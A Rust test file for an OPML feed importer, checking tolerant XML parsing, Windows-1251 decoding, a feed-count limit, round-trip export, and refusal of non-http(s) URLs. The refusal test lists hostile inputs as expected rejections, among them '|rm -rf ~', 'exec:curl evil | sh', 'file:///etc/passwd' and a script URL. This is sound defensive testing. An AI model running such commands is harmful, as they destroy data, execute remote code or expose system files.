//! OPML import from files as strangers write them: tolerant of sloppy XML, refusing every
//! feed URL that is not http(s) and naming it; and export → import gives the same list.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a test crate

use chmon::config::FeedEntry;
use chmon::opml::{self, OpmlFeed};

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/opml/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn feed(url: &str, name: Option<&str>, section: Option<&str>) -> OpmlFeed {
    OpmlFeed {
        url: url.into(),
        name: name.map(Into::into),
        section: section.map(Into::into),
    }
}

#[test]
fn sloppy_files_are_read_nested_outlines_become_sections() {
    let opml = opml::parse(&fixture("tolerant.opml")).unwrap();
    assert_eq!(
        opml.feeds,
        vec![
            feed(
                "https://monitor.cn.ua/news.xml",
                Some("Чернігівський монітор"),
                Some("Чернігів")
            ),
            feed(
                "http://www.monitor.cn.ua/news_monitoring.xml",
                Some("Моніторинг"),
                Some("Чернігів / Розділи")
            ),
            feed(
                "https://monitor.cn.ua/news_author-58.xml",
                Some("Автор 58"),
                Some("Чернігів / Розділи")
            ),
            feed(
                "https://example.org/feed?a=1&b=2",
                Some("Без розділу"),
                None
            ),
            feed("https://example.net/rss", None, None),
        ]
    );
    assert!(opml.refused.is_empty(), "{:?}", opml.refused);
}

#[test]
fn windows_1251_files_are_decoded() {
    let opml = opml::parse(&fixture("cp1251.opml")).unwrap();
    assert_eq!(opml.feeds[0].name.as_deref(), Some("Новини"));
}

#[test]
fn hostile_urls_are_refused_and_named() {
    let opml = opml::parse(&fixture("hostile.opml")).unwrap();
    assert_eq!(
        opml.feeds,
        vec![feed("https://good.example/rss", Some("Добрий"), None)],
        "only the http(s) feed; nothing from comments or CDATA; no escapes in names"
    );
    let refused: Vec<(&str, &str)> = opml
        .refused
        .iter()
        .map(|r| (r.url.as_str(), r.reason))
        .collect();
    assert_eq!(
        refused,
        vec![
            ("|rm -rf ~", "a command, not a URL"),
            ("exec:curl evil | sh", "a command, not a URL"),
            ("file:///etc/passwd", "a local file, not a URL"),
            ("javascript:alert(1)", "a script, not a URL"),
            ("data:text/xml,<rss/>", "only http and https URLs are taken"),
            ("gopher://x/", "only http and https URLs are taken"),
            ("&xxe;", "not a URL"),
            ("http://", "not a URL"),
        ]
    );
    for r in &opml.refused {
        assert!(!r.url.contains('\u{1b}'), "{r:?}");
    }
}

#[test]
fn a_huge_file_is_refused_whole() {
    let mut doc = String::from("<opml><body>");
    for i in 0..=opml::MAX_FEEDS {
        doc.push_str(&format!("<outline xmlUrl=\"https://h.example/{i}\"/>"));
    }
    doc.push_str("</body></opml>");
    assert_eq!(opml::parse(doc.as_bytes()), Err(opml::OpmlError::TooMany));
}

#[test]
fn export_then_import_gives_the_same_list() {
    let entry = |url: &str, name: Option<&str>, section: Option<&str>| FeedEntry {
        url: url.into(),
        name: name.map(Into::into),
        section: section.map(Into::into),
        ..FeedEntry::default()
    };
    let list = vec![
        entry("https://monitor.cn.ua/", None, None),
        entry(
            "https://monitor.cn.ua/news_monitoring.xml",
            Some("Моніторинг"),
            Some("Чернігівський монітор"),
        ),
        entry(
            "https://monitor.cn.ua/news_author-58.xml",
            Some("Автор <58> & «Ко»"),
            Some("Чернігівський монітор"),
        ),
        entry(
            "https://example.org/feed?a=1&b=2",
            Some("Приклад"),
            Some("Інше"),
        ),
        entry(
            "https://example.org/two",
            None,
            Some("Чернігівський монітор"),
        ),
    ];
    let back = opml::parse(opml::write(&list).as_bytes()).unwrap();
    let want: Vec<OpmlFeed> = list
        .iter()
        .map(|e| feed(&e.url, e.name.as_deref(), e.section.as_deref()))
        .collect();
    assert_eq!(back.feeds, want, "the same rows in the same order");
    assert!(back.refused.is_empty());
}
